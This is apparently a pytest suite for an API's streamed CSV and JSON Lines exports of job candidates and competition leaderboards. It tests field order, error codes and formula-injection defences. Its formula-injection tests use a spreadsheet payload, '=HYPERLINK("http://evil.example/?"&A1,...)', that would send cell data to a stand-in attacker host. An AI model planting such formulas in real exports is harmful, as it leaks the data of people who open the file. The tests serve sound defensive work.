"""Streamed exports: a job's candidates and a round's leaderboard as CSV and JSON Lines, over HTTP,
in the order and with the fields of the GraphQL results, refused with the GraphQL error shape."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session, col, select
from starlette.testclient import TestClient

from api.graphql.ids import decode_id_of, encode_global_id
from api.models.cup import Entry
from tests.api.conftest import APPLY_TO_JOB, EmployerAccount, TalentAccount

RANK_CANDIDATES = """
query($jobId: ID!, $first: Int!) {
  rankCandidates(jobId: $jobId, first: $first) {
    totalCount
    nodes { talent { id nameZh } score explanation { component contribution } missingSkills }
  }
}
"""
LEADERBOARD = """
query($competitionId: ID!, $round: String!, $method: AggregationMethod) {
  leaderboard(competitionId: $competitionId, round: $round, method: $method) {
    rows { rank entry { id title } aggregate rawMean judgesCounted methodUsed criterionMeans { criterion mean } }
  }
}
"""


def _get(client: TestClient, path: str, token: str | None = None) -> Any:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    return client.get(path, headers=headers)


def _error_code(response: Any) -> str:
    code: str = response.json()["errors"][0]["extensions"]["code"]
    return code


@pytest.fixture(scope="module")
def employer_job(employer_api_client: Any) -> str:
    """An open job of the demo employer's enterprise."""
    me = employer_api_client.execute("{ me { enterprise { id } } }")["data"]["me"]["enterprise"]["id"]
    jobs = employer_api_client.execute(
        "query($e: ID!) { jobs(filter: {employerId: $e}, first: 1) { nodes { id } } }", {"e": me}
    )["data"]["jobs"]["nodes"]
    job_id: str = jobs[0]["id"]
    return job_id


@pytest.fixture(scope="module")
def demo_competition(admin_api_client: Any) -> dict[int, str]:
    """Edition -> ID of the demo competitions (2024: preliminary closed; 2027: taking entries)."""
    competitions = admin_api_client.execute("{ competitions { id edition } }")["data"]["competitions"]
    return {c["edition"]: c["id"] for c in competitions}


def test_candidates_csv_lists_every_candidate_in_the_order_of_rank_candidates(
    client: TestClient, admin_api_client: Any, employer_job: str
) -> None:
    # given
    ranked = admin_api_client.execute(RANK_CANDIDATES, {"jobId": employer_job, "first": 100})["data"]
    nodes = ranked["rankCandidates"]["nodes"]

    # when
    response = _get(client, f"/exports/jobs/{employer_job}/candidates.csv", admin_api_client.token)

    # then
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == ranked["rankCandidates"]["totalCount"] and nodes
    assert [r["talentId"] for r in rows[: len(nodes)]] == [n["talent"]["id"] for n in nodes]
    assert [float(r["score"]) for r in rows[: len(nodes)]] == [n["score"] for n in nodes]
    assert [int(r["rank"]) for r in rows] == list(range(1, len(rows) + 1))
    first = nodes[0]
    assert {c["component"]: c["contribution"] for c in first["explanation"]} == {
        c["component"]: float(rows[0][c["component"]]) for c in first["explanation"]
    }
    assert rows[0]["missingSkills"] == "; ".join(first["missingSkills"])


def test_candidates_jsonl_carries_the_graphql_fields_for_the_jobs_employer(
    client: TestClient, employer_api_client: Any, employer_job: str
) -> None:
    # given
    nodes = employer_api_client.execute(RANK_CANDIDATES, {"jobId": employer_job, "first": 20})["data"]
    expected = nodes["rankCandidates"]["nodes"]

    # when
    response = _get(client, f"/exports/jobs/{employer_job}/candidates.jsonl", employer_api_client.token)

    # then
    assert response.status_code == 200 and response.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert len(lines) == nodes["rankCandidates"]["totalCount"]
    for line, node in zip(lines, expected, strict=False):
        assert line["talent"]["id"] == node["talent"]["id"] and line["talent"]["nameZh"] == node["talent"]["nameZh"]
        assert line["score"] == node["score"] and line["missingSkills"] == node["missingSkills"]
        assert [(c["component"], c["contribution"]) for c in line["explanation"]] == [
            (c["component"], c["contribution"]) for c in node["explanation"]
        ]


@pytest.mark.parametrize(
    ("path", "who", "status", "code"),
    [
        ("/exports/jobs/{job}/candidates.csv", None, 401, "UNAUTHENTICATED"),
        ("/exports/jobs/{job}/candidates.csv", "bad-token", 401, "UNAUTHENTICATED"),
        ("/exports/jobs/{job}/candidates.jsonl", "talent", 403, "FORBIDDEN"),
        ("/exports/jobs/{other_job}/candidates.csv", "employer", 403, "FORBIDDEN"),
        ("/exports/jobs/{missing_job}/candidates.csv", "admin", 404, "NOT_FOUND"),
        ("/exports/jobs/not-an-id/candidates.csv", "admin", 400, "BAD_USER_INPUT"),
        ("/exports/jobs/{talent}/candidates.csv", "admin", 400, "BAD_USER_INPUT"),
        ("/exports/jobs/{job}/candidates.xml", "admin", 404, "NOT_FOUND"),
        ("/exports/competitions/{cup2024}/leaderboard.csv?round=preliminary", None, 401, "UNAUTHENTICATED"),
        ("/exports/competitions/{cup2027}/leaderboard.csv?round=preliminary", "talent", 403, "FORBIDDEN"),
        ("/exports/competitions/{missing_cup}/leaderboard.csv?round=preliminary", "admin", 404, "NOT_FOUND"),
        ("/exports/competitions/{cup2024}/leaderboard.csv?round=semifinal", "admin", 404, "NOT_FOUND"),
        ("/exports/competitions/{cup2024}/leaderboard.csv", "admin", 400, "BAD_USER_INPUT"),
        ("/exports/competitions/{cup2024}/leaderboard.jsonl?round=final&method=MEDIAN", "admin", 400, "BAD_USER_INPUT"),
        ("/exports/competitions/{job}/leaderboard.csv?round=final", "admin", 400, "BAD_USER_INPUT"),
    ],
)
def test_a_refused_export_gets_the_status_and_the_coded_error(
    client: TestClient,
    admin_api_client: Any,
    employer_api_client: Any,
    talent_api_client: Any,
    employer_job: str,
    demo_competition: dict[int, str],
    path: str,
    who: str | None,
    status: int,
    code: str,
) -> None:
    # given: a job of another employer than the demo employer's
    jobs = admin_api_client.execute("{ jobs(first: 100) { nodes { id employer { legalName } } } }")["data"]
    own = next(n["employer"]["legalName"] for n in jobs["jobs"]["nodes"] if n["id"] == employer_job)
    other_job = next(n["id"] for n in jobs["jobs"]["nodes"] if n["employer"]["legalName"] != own)
    tokens = {
        "admin": admin_api_client.token,
        "employer": employer_api_client.token,
        "talent": talent_api_client.token,
        "bad-token": "not.a.token",
    }
    url = path.format(
        job=employer_job,
        other_job=other_job,
        missing_job=encode_global_id("Job", 999_999_999),
        talent=encode_global_id("Talent", 1),
        cup2024=demo_competition[2],
        cup2027=demo_competition[3],
        missing_cup=encode_global_id("Competition", 999_999_999),
    )

    # when
    response = _get(client, url, tokens[who] if who else None)

    # then
    assert response.status_code == status, response.text
    assert _error_code(response) == code
    assert response.json()["errors"][0]["message"]


def test_leaderboard_csv_follows_the_graphql_leaderboard_for_a_judge_once_the_round_closed(
    client: TestClient, judge_api_client: Any, demo_competition: dict[int, str]
) -> None:
    # given
    variables = {"competitionId": demo_competition[2], "round": "preliminary"}
    board = judge_api_client.execute(LEADERBOARD, variables)["data"]["leaderboard"]["rows"]

    # when
    response = _get(
        client, f"/exports/competitions/{demo_competition[2]}/leaderboard.csv?round=preliminary", judge_api_client.token
    )

    # then
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["entryId"], r["title"], int(r["rank"])) for r in rows] == [
        (b["entry"]["id"], b["entry"]["title"], b["rank"]) for b in board
    ]
    assert [float(r["aggregate"]) for r in rows] == [b["aggregate"] for b in board]
    first_means = {m["criterion"]: m["mean"] for m in board[0]["criterionMeans"]}
    assert {k: float(rows[0][f"mean:{k}"]) for k in first_means} == first_means
    assert rows[0]["methodUsed"] == board[0]["methodUsed"]


def test_leaderboard_jsonl_by_another_method_matches_the_graphql_result(
    client: TestClient, admin_api_client: Any, demo_competition: dict[int, str]
) -> None:
    # given
    variables = {"competitionId": demo_competition[2], "round": "final", "method": "ZSCORE"}
    board = admin_api_client.execute(LEADERBOARD, variables)["data"]["leaderboard"]["rows"]

    # when
    path = f"/exports/competitions/{demo_competition[2]}/leaderboard.jsonl?round=final&method=ZSCORE"
    response = _get(client, path, admin_api_client.token)

    # then
    assert response.status_code == 200
    lines = [json.loads(line) for line in response.text.splitlines()]
    keys = ("rank", "entry", "aggregate", "rawMean", "judgesCounted", "methodUsed", "criterionMeans")
    assert [{k: line[k] for k in keys} for line in lines] == board


# ------------------------------------------------------------------ formula injection (issue #13, L3)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_candidates_csv_neutralises_a_formula_in_a_name(
    client: TestClient,
    new_employer: Callable[[], EmployerAccount],
    post_job: Callable[..., dict[str, Any]],
    new_talent: Callable[..., TalentAccount],
) -> None:
    # given: a talent whose names a spreadsheet would run as formulas applies to a job
    employer = new_employer()
    job = post_job(employer, requiredSkills=["qPCR"])
    talent = new_talent(nameZh=HYPERLINK, nameEn="@SUM(1+1)")
    applied = talent.api.execute(APPLY_TO_JOB, {"jobId": job["id"]})["data"]["applyToJob"]
    assert applied["userErrors"] == []

    # when
    response = _get(client, f"/exports/jobs/{job['id']}/candidates.csv", employer.api.token)

    # then: the cells are text, starting with an apostrophe; numbers stay numbers
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    (row,) = [r for r in rows if r["talentId"] == talent.talent_id]
    assert (row["nameZh"], row["nameEn"]) == ("'" + HYPERLINK, "'@SUM(1+1)")
    assert all(float(r["score"]) >= 0 and not r["rank"].startswith("'") for r in rows)
    jsonl = _get(client, f"/exports/jobs/{job['id']}/candidates.jsonl", employer.api.token).text
    assert HYPERLINK in [json.loads(line)["talent"]["nameZh"] for line in jsonl.splitlines()]


@pytest.fixture
def formula_titles(engine: Engine, demo_competition: dict[int, str]) -> Iterator[dict[str, str]]:
    """Two entries of the closed 2024 preliminary titled as formulas (+, @, tab), put back afterwards."""
    titles = ["+86 1234 电池", "@risk 储能", "\t-1 碳化硅"]
    with Session(engine) as session:
        entries = list(
            session.exec(
                select(Entry).where(Entry.competition_id == decode_id_of(demo_competition[2], "Competition"))
                .order_by(col(Entry.id)).limit(len(titles))
            )
        )  # fmt: skip
        before = {e.id: e.title for e in entries}
        for entry, title in zip(entries, titles, strict=True):
            entry.title = title
            session.add(entry)
        session.commit()
        yield {encode_global_id("Entry", e.id): t for e, t in zip(entries, titles, strict=True) if e.id}
        for entry in entries:
            entry.title = before[entry.id]
            session.add(entry)
        session.commit()


def test_leaderboard_csv_neutralises_formula_titles(
    client: TestClient, judge_api_client: Any, demo_competition: dict[int, str], formula_titles: dict[str, str]
) -> None:
    # when
    path = f"/exports/competitions/{demo_competition[2]}/leaderboard"
    response = _get(client, f"{path}.csv?round=preliminary", judge_api_client.token)

    # then
    assert response.status_code == 200
    rows = {r["entryId"]: r for r in csv.DictReader(io.StringIO(response.text))}
    assert {i: rows[i]["title"] for i in formula_titles} == {i: "'" + t for i, t in formula_titles.items()}
    assert all(not r["aggregate"].startswith("'") and float(r["aggregate"]) for r in rows.values())
    lines = [
        json.loads(line)
        for line in _get(client, f"{path}.jsonl?round=preliminary", judge_api_client.token).text.splitlines()
    ]
    assert {
        line["entry"]["id"]: line["entry"]["title"] for line in lines if line["entry"]["id"] in formula_titles
    } == formula_titles
